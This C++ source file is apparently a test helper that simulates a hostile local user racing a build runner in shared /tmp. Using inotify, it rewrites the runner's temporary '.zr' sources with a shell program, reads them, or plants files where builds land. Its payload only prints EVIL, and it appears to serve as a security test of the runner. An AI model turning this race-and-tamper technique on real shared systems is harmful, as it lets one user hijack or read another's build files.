// tmp_attacker MODE PREFIX: what another local user can do to the runner's files in the shared
// /tmp. It watches /tmp with inotify and acts the moment a name beginning with PREFIX and ending in
// ".zr" (a temporary source) appears:
//   rewrite  opens it for writing and, after each time the runner closes it, replaces its content
//            with a program of ours (a /bin/sh line that prints EVIL);
//   read     opens it for reading and, at the end, prints what it last held;
//   plant    creates a file of ours at the name without ".zr" (where the build would go);
//   divert   PREFIX is one cache name: the moment a build starts (a private build folder or
//            PREFIX.zr appears) it creates a file of ours at PREFIX, where the build will go.
// It prints "ready" once the watch is in place, one line per action, and ends when its standard
// input closes. Every line: "<action> <name>[: <detail>]".
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sys/inotify.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <map>
#include <string>

namespace {

const char kTmp[] = "/tmp/";
const char kEvilSource[] = "#!evil\necho EVIL\n";
const char kEvilProgram[] = "#!/bin/sh\necho EVIL\n";

struct Attack {
  std::string mode;
  std::string prefix;
  std::map<std::string, int> held;  // temporary sources we hold open, by name
};

void report(const std::string& action, const std::string& name, const std::string& detail = "") {
  std::printf("%s %s%s%s\n", action.c_str(), name.c_str(), detail.empty() ? "" : ": ",
              detail.c_str());
  std::fflush(stdout);
}

bool is_target(const Attack& attack, const std::string& name) {
  if (attack.mode == "divert")
    return name.starts_with("zr-private_") || name == attack.prefix + ".zr";
  return name.starts_with(attack.prefix) && name.ends_with(".zr");
}

void plant_program(const std::string& target) {
  int fd = open(target.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_NOFOLLOW, 0755);
  if (fd < 0) return report("plant-failed", target, std::strerror(errno));
  if (write(fd, kEvilProgram, sizeof kEvilProgram - 1) < 0) report("write-failed", target);
  close(fd);
  report("planted", target);
}

std::string read_all(int fd) {
  std::string content;
  char buffer[4096];
  off_t offset = 0;
  ssize_t n;
  while ((n = pread(fd, buffer, sizeof buffer, offset)) > 0) {
    content.append(buffer, static_cast<size_t>(n));
    offset += n;
  }
  return content;
}

// The name has just appeared: open it at once, before the runner is done with it.
void on_created(Attack& attack, const std::string& name) {
  const std::string path = kTmp + name;
  if (attack.mode == "plant") return plant_program(path.substr(0, path.size() - 3));
  if (attack.mode == "divert") return plant_program(kTmp + attack.prefix);
  const int flags = (attack.mode == "rewrite" ? O_WRONLY : O_RDONLY) | O_NOFOLLOW | O_NONBLOCK;
  int fd = open(path.c_str(), flags);
  if (fd < 0) return report("refused", name, std::strerror(errno));
  attack.held[name] = fd;
  report("opened", name);
}

// The runner has closed its handle: whatever it wrote is there now.
void on_closed(Attack& attack, const std::string& name) {
  auto found = attack.held.find(name);
  if (found == attack.held.end() || attack.mode != "rewrite") return;
  if (ftruncate(found->second, 0) == 0 &&
      pwrite(found->second, kEvilSource, sizeof kEvilSource - 1, 0) > 0) {
    report("rewrote", name);
  }
}

void finish(Attack& attack) {
  for (auto& [name, fd] : attack.held) {
    if (attack.mode == "read") {
      std::string content = read_all(fd);
      for (char& c : content) c = c == '\n' ? '|' : c;
      report("read", name, content);
    }
    close(fd);
  }
}

void handle_events(Attack& attack, int watch) {
  alignas(inotify_event) char buffer[16384];
  ssize_t n = read(watch, buffer, sizeof buffer);
  for (char* at = buffer; n > 0 && at < buffer + n;) {
    auto* event = reinterpret_cast<inotify_event*>(at);
    at += sizeof(inotify_event) + event->len;
    if (event->len == 0) continue;
    const std::string name = event->name;
    if (!is_target(attack, name)) continue;
    if (event->mask & (IN_CREATE | IN_MOVED_TO)) on_created(attack, name);
    if (event->mask & IN_CLOSE_WRITE) on_closed(attack, name);
  }
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 3) {
    std::fprintf(stderr, "usage: tmp_attacker rewrite|read|plant|divert PREFIX\n");
    return 2;
  }
  Attack attack{argv[1], argv[2], {}};
  int watch = inotify_init1(IN_CLOEXEC);
  if (watch < 0 || inotify_add_watch(watch, kTmp, IN_CREATE | IN_MOVED_TO | IN_CLOSE_WRITE) < 0) {
    std::perror("inotify");
    return 1;
  }
  report("ready", attack.prefix);
  pollfd fds[2] = {{watch, POLLIN, 0}, {0, POLLIN, 0}};
  for (;;) {
    if (poll(fds, 2, -1) < 0 && errno != EINTR) break;
    if (fds[0].revents & POLLIN) handle_events(attack, watch);
    if (fds[1].revents != 0) {
      char byte;
      if (read(0, &byte, 1) <= 0) break;
    }
  }
  finish(attack);
  return 0;
}
